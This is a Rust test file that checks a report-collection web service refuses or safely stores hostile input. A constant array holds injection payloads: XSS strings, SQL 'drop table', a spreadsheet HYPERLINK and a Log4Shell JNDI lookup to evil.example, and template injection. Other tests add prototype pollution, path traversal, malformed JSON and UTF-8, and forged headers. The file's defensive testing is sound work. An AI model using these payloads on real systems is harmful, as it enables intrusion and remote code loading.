//! Input that was made to do harm: it is refused in words or kept as the text it is, and never more.

use crate::support::{self, JWT_SECRET, TOKEN, Tested, id, put, submission};
use axum::body::Body;
use axum::http::{HeaderValue, Request, StatusCode};
use jsonwebtoken::{EncodingKey, Header, encode};
use phieu::collector::Settings;
use serde_json::{Value, json};
use std::num::NonZeroU32;

/// Texts that some program somewhere takes for something else.
const TEXTS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)//",
    "'; drop table submission; --",
    "=HYPERLINK(\"https://evil.example\";\"Bấm vào đây\")",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/a}",
    "\u{202e}gpj.exe\u{202c}",
    "\u{0}null\u{1}\u{7f}\u{85}",
    "\u{feff}\u{200b}\u{2028}\u{2029}",
    "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{10ffff}\u{fffe}😀",
];

#[tokio::test]
async fn a_text_is_kept_as_it_is_or_refused_in_words() {
    let collector = Tested::new().await;
    let mut kept = 0;
    for text in TEXTS {
        let one = id();
        let mut report = submission(&one, 100);
        report["report"]["figures"]["note"] = json!(text);
        let answer = collector.put(&one, &report).await;
        match answer.status {
            StatusCode::CREATED => {
                kept += 1;
                let shown = collector
                    .office(&format!("/api/office/submissions/{one}"))
                    .await;
                assert_eq!(
                    shown.json()["report"]["figures"]["note"],
                    json!(text),
                    "{text:?}"
                );
                assert_eq!(shown.header("content-type"), "application/json");
                assert_eq!(shown.header("x-content-type-options"), "nosniff");
            }
            StatusCode::UNPROCESSABLE_ENTITY => assert_eq!(answer.code(), "findings", "{text:?}"),
            status => panic!("{text:?}: {status} {}", answer.text()),
        }
    }
    assert!(kept >= 6, "what is only odd is kept: {kept}");
}

#[tokio::test]
async fn an_identity_is_looked_up_and_nothing_else() {
    let collector = Tested::new().await;
    for text in TEXTS
        .into_iter()
        .chain(["__proto__", "constructor", "", "../trees", "trees%00"])
    {
        for member in ["plan", "unit", "duty"] {
            let one = id();
            let mut report = submission(&one, 100);
            report["report"][member] = json!(text);
            let answer = collector.put(&one, &report).await;
            let expected = if member == "plan" {
                "notCollected"
            } else {
                "findings"
            };
            assert_eq!(answer.code(), expected, "{member} {text:?}");
        }
        let escaped: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for (path, codes) in [
            (
                format!("/api/plans/trees/status?unit={escaped}"),
                ["unknownUnit", "parameter"],
            ),
            (
                format!("/api/plans/{escaped}"),
                ["unknownPlan", "noSuchPlace"],
            ),
            (
                format!("/api/submissions/{escaped}/receipt"),
                ["notAUuid", "noSuchPlace"],
            ),
        ] {
            let code = collector.get(&path).await.code();
            assert!(codes.contains(&code.as_str()), "{path}: {code}");
        }
    }
}

#[tokio::test]
async fn a_body_that_javascript_or_a_reader_would_trip_over_is_refused() {
    let collector = Tested::new().await;
    let one = id();
    let good = submission(&one, 100).to_string();
    let with = |from: &str, to: &str| good.replacen(from, to, 1).into_bytes();
    let head = &b"{\"format\":1,\"id\":\""[..];
    for (what, body, code) in [
        (
            "__proto__",
            with("{", r#"{"__proto__":{"admin":true},"#),
            "malformed",
        ),
        (
            "constructor",
            with("{", r#"{"constructor":{"prototype":{}},"#),
            "malformed",
        ),
        (
            "a figure __proto__",
            with("\"trees\":100", r#""trees":100,"__proto__":1"#),
            "findings",
        ),
        (
            "a member twice",
            with("\"format\":1", "\"format\":1,\"format\":1"),
            "malformed",
        ),
        ("a lone surrogate", with("100", r#""\ud800""#), "malformed"),
        (
            "a lone low surrogate",
            with("trees\":", r#"\udc00":"#),
            "malformed",
        ),
        ("1e400", with("100", "1e400"), "malformed"),
        ("-1e400", with("100", "-1e400"), "malformed"),
        (
            "a number of 10,000 digits",
            with("100", &"9".repeat(10_000)),
            "malformed",
        ),
        ("2^63", with("100", "9223372036854775808"), "malformed"),
        ("2^53", with("100", "9007199254740992"), "findings"),
        ("NaN", with("100", "NaN"), "malformed"),
        (
            "figures nested",
            with("100", &format!("{}1{}", "[".repeat(200), "]".repeat(200))),
            "malformed",
        ),
        (
            "objects nested",
            format!("{}1", "{\"a\":".repeat(50_000)).into_bytes(),
            "malformed",
        ),
        ("overlong UTF-8", [head, &[0xc0, 0xaf]].concat(), "notUtf8"),
        (
            "a surrogate in UTF-8",
            [head, &[0xed, 0xa0, 0x80]].concat(),
            "notUtf8",
        ),
        (
            "half a letter",
            [head, "đ".as_bytes()[..1].as_ref()].concat(),
            "notUtf8",
        ),
        (
            "UTF-16",
            good.encode_utf16().flat_map(u16::to_le_bytes).collect(),
            "malformed",
        ),
        (
            "a byte order mark",
            [&[0xef, 0xbb, 0xbf], good.as_bytes()].concat(),
            "malformed",
        ),
        (
            "two at once",
            format!("{good}{good}").into_bytes(),
            "malformed",
        ),
        ("10 MB", vec![b' '; 10_000_000], "tooLarge"),
    ] {
        let answer = collector.ask(put(&one, body)).await;
        assert!(answer.status.is_client_error(), "{what} was taken");
        assert_eq!(answer.code(), code, "{what}: {}", answer.text());
    }
    let untouched = collector.put(&one, &submission(&one, 100)).await;
    assert_eq!(
        untouched.status,
        StatusCode::CREATED,
        "none of them left a trace"
    );
}

#[tokio::test]
async fn a_head_that_is_odd_opens_nothing() {
    let collector = Tested::closed().await;
    let token = |bytes: &[u8]| HeaderValue::from_bytes(bytes).unwrap();
    for header in [
        token(b"Bearer \xff\xfe"),
        token("Bearer mã-của-đơn-vị".as_bytes()),
        token(b"Bearer  "),
        token(b"bearer\tx"),
        token(&[b"Bearer ".as_slice(), &[b'A'; 60_000]].concat()),
        token(b"Bearer a.b.c"),
        token(b"Bearer ..."),
        token(b"Bearer eyJhbGciOiJIUzI1NiJ9.e30."),
        token(format!("Bearer {TOKEN},{TOKEN}").as_bytes()),
    ] {
        let request = Request::get("/api/plans").header("authorization", &header);
        let answer = collector.ask(request.body(Body::empty()).unwrap()).await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{header:?}");
    }
    for query in ["token", "access_token", "code", "key"] {
        let answer = collector.get(&format!("/api/plans?{query}={TOKEN}")).await;
        assert_eq!(
            answer.code(),
            "tokenMissing",
            "no secret is taken from an address"
        );
    }
}

#[tokio::test]
async fn what_a_login_says_of_itself_is_kept_as_a_name_only() {
    let collector = Tested::closed().await;
    let subject = "lan\u{0}\n\u{202e}'; drop table decision; --".to_owned() + &"x".repeat(500);
    let claims =
        json!({"aud": "phieu", "exp": 7_258_118_400_u64, "unit": "tay-thanh", "sub": subject});
    let key = EncodingKey::from_secret(JWT_SECRET.as_bytes());
    let login = encode(&Header::default(), &claims, &key).unwrap();
    let one = id();
    let mut request = put(&one, submission(&one, 100).to_string());
    let value = HeaderValue::from_str(&format!("Bearer {login}")).unwrap();
    request.headers_mut().insert("authorization", value);
    assert_eq!(collector.ask(request).await.status, StatusCode::CREATED);
    let shown = collector
        .office(&format!("/api/office/submissions/{one}"))
        .await
        .json();
    let name = shown["history"][0]["sentBy"].as_str().unwrap();
    assert!(name.starts_with("jwt:lan '; drop"), "{name:?}");
    assert!(
        name.chars().count() <= 104 && !name.contains(char::is_control),
        "{name:?}"
    );
}

#[tokio::test]
async fn too_many_requests_from_one_place_are_told_when_to_come_again() {
    let settings = |behind_proxy| Settings {
        rate: NonZeroU32::new(1),
        behind_proxy,
        ..Settings::default()
    };
    for (behind_proxy, peers, told, limited) in [
        (false, ["192.0.2.1", "192.0.2.1"], ["", ""], true),
        (false, ["192.0.2.1", "192.0.2.2"], ["", ""], false),
        (false, ["127.0.0.1", "127.0.0.1"], ["", ""], false),
        // What a client says of itself counts for nothing; what its proxy says does.
        (
            false,
            ["192.0.2.1", "192.0.2.1"],
            ["198.51.100.1", "198.51.100.2"],
            true,
        ),
        (
            true,
            ["127.0.0.1", "127.0.0.1"],
            ["198.51.100.1", "198.51.100.2"],
            false,
        ),
        (
            true,
            ["127.0.0.1", "127.0.0.1"],
            ["198.51.100.1", "198.51.100.1"],
            true,
        ),
        (
            true,
            ["127.0.0.1", "127.0.0.1"],
            ["203.0.113.1, 198.51.100.1", "203.0.113.2, 198.51.100.1"],
            true,
        ),
    ] {
        let collector = Tested::with(settings(behind_proxy)).await;
        let mut last = None;
        for turn in 0..11 {
            let place = usize::from(turn == 10);
            let request = Request::get("/api/health")
                .header("x-forwarded-for", told[place])
                .body(Body::empty())
                .unwrap();
            last = Some(collector.ask(support::from(peers[place], request)).await);
        }
        let last = last.unwrap();
        let case = format!("{behind_proxy} {peers:?} {told:?}");
        assert_eq!(
            last.status == StatusCode::TOO_MANY_REQUESTS,
            limited,
            "{case}"
        );
        if limited {
            assert_eq!(last.code(), "tooMany");
            assert!(last.header("retry-after").parse::<u64>().unwrap() >= 1);
        }
    }
}

#[tokio::test]
async fn the_offices_words_are_cleaned_too() {
    let collector = Tested::new().await;
    for text in TEXTS {
        let one = id();
        let mut report = submission(&one, 100);
        report["report"]["figures"]["note"] = json!(one);
        collector.put(&one, &report).await;
        let decision = json!({"outcome": "returned", "reason": format!("a{text}"),
            "fields": [{"path": "/figures/__proto__", "reason": format!("b{text}")}]});
        let request = Request::post(format!("/api/office/submissions/{one}/decision"))
            .header("authorization", format!("Bearer {TOKEN}"))
            .header("content-type", "application/json")
            .body(Body::from(decision.to_string()))
            .unwrap();
        let answer = collector.ask(request).await;
        assert_eq!(
            answer.status,
            StatusCode::CREATED,
            "{text:?} {}",
            answer.text()
        );
        let reason: Value = answer.json()["reason"].clone();
        let odd = ['\0', '\u{1}', '\u{202e}', '\u{200b}', '\u{feff}'];
        assert!(!reason.as_str().unwrap().contains(odd), "{reason}");
    }
}

#[tokio::test]
async fn what_steers_a_screen_is_refused_in_words_and_nothing_of_it_is_kept() {
    let collector = Tested::new().await;
    let one = id();
    let mut report = submission(&one, 100);
    report["report"]["figures"]["note"] = json!("C\u{e2}y \u{202e}xanh");
    report["report"]["activities"] = json!([{"title": "Tr\u{1b}[2Jồng cây", "date": "2023-03-01"}]);
    let refused = collector.put(&one, &report).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    let findings = &refused.json()["findings"];
    for (at, path, character) in [
        (0, "/activities/0/title", "U+001B"),
        (1, "/figures/note", "U+202E"),
    ] {
        let finding = &findings[at];
        assert_eq!(finding["code"], "text.activeCharacter", "{findings}");
        assert_eq!(finding["path"], path);
        assert!(finding["message"].as_str().unwrap().contains(character));
    }
    let raw = |answer: &str| answer.contains(['\u{202e}', '\u{1b}']);
    assert!(!raw(&refused.text()), "the answer itself holds none");
    let receipt = format!("/api/submissions/{one}/receipt");
    assert_eq!(collector.get(&receipt).await.status, StatusCode::NOT_FOUND);

    let taken = collector.put(&one, &submission(&one, 100)).await;
    assert_eq!(taken.status, StatusCode::CREATED, "{}", taken.text());
    let decision = json!({"outcome": "returned", "reason": "Xem \u{202e}lại\u{7}",
        "fields": [{"path": "/figures/\u{2066}trees", "reason": "x"}]});
    let decide = |decision: &Value| {
        Request::post(format!("/api/office/submissions/{one}/decision"))
            .header("authorization", format!("Bearer {TOKEN}"))
            .header("content-type", "application/json")
            .body(Body::from(decision.to_string()))
            .unwrap()
    };
    let refused = collector.ask(decide(&decision)).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    let decision = json!({"outcome": "returned", "reason": "Xem \u{202e}lại\u{7}"});
    let told = collector.ask(decide(&decision)).await;
    assert_eq!(told.json()["reason"], "Xem lại", "{}", told.text());
}
